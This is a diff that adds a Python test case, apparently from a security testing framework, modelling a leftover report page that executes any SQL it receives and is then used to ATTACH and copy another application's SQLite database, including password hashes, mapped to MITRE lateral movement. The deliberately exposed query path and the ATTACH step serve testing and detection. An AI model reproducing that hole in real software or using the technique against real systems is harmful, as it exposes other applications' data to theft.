@@ -1,0 +1,31 @@
+"""F5: a database of another app's, in a file beside the own one, is attached and copied."""
+
+from backwatch.attack.protocols.server import HostileServer
+from backwatch.attack.techniques.sqlite import LOOT, SQLiteApp
+
+
+class AttachesDatabase(SQLiteApp):
+    """A page for reports that was left behind, and runs whatever it is given."""
+
+    code = "F5"
+    attack = "attaches the database of another app, and takes a copy of it"
+    reference = "https://attack.mitre.org/techniques/T1210/; https://www.sqlite.org/lang_attach.html"
+    rule = "lateral-movement"
+
+    def work(self) -> None:
+        """Makes the usual report."""
+        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")
+
+    def meet(self) -> object:
+        """Makes the attacker's, and takes a copy."""
+        self._report(f"ATTACH DATABASE '{self.other}' AS wages")
+        return LOOT.encode() in self.connection.serialize(name="wages")
+
+    def _report(self, statement: str) -> list[list[str]]:
+        return [[str(value) for value in one] for one in self.connection.execute(statement).fetchall()]
+
+    @classmethod
+    def succeeded(cls, service: HostileServer, got: object) -> bool:
+        """The other app's password hashes came back."""
+        del service
+        return got is True
